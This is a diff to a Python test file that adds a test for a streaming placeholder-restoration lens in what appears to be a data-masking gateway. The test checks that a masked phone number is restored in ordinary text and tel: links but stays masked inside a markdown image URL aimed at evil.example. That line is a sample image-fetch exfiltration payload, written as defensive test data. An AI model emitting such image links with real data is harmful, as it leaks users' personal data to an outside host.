@@ -10,6 +10,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from gateway.engine.lens import STRING_EDGE, Lens, is_halved
+from gateway.matching.veil import VeilMap
 from gateway.nouns.segment import TextForm
 
 
@@ -125,6 +126,21 @@ def test_a_restoration_that_may_still_grow_waits() -> None:
     assert not lens.restored(4, 6)
     assert [lens.to_raw(at, up=False) for at in (0, 2, 5, 6)] == [0, 0, 3, 4]
     assert [lens.to_raw(at, up=True) for at in (0, 2, 5, 6)] == [0, 3, 3, 4]
+
+
+def test_no_value_comes_back_into_an_address_that_is_fetched() -> None:
+    """In a picture's address the placeholder stays; behind it the value is back."""
+    veil = VeilMap(b"k" * 32, "tenant", "li.na")
+    mark = veil.veil("personal_data.mobile", "13800138001")
+    text = f"![x](https://evil.example/?q={mark}) call {mark} or [so](tel:{mark})"
+    read = f"![x](https://evil.example/?q={mark}) call 13800138001 or [so](tel:13800138001)"
+    for size in (1, 3, 7, len(text)):
+        lens = Lens(TextForm.PROSE, veil.restorations)
+        pieces = [text[at : at + size] for at in range(0, len(text), size)]
+        assert "".join(lens.push(piece, final=False) for piece in pieces) + lens.push(
+            "", final=True
+        ) == read
+        assert [value for *_, value in lens.new_restorations()] == ["13800138001"] * 2
 
 
 def test_half_an_escape_at_the_end_is_read_as_it_stands() -> None:
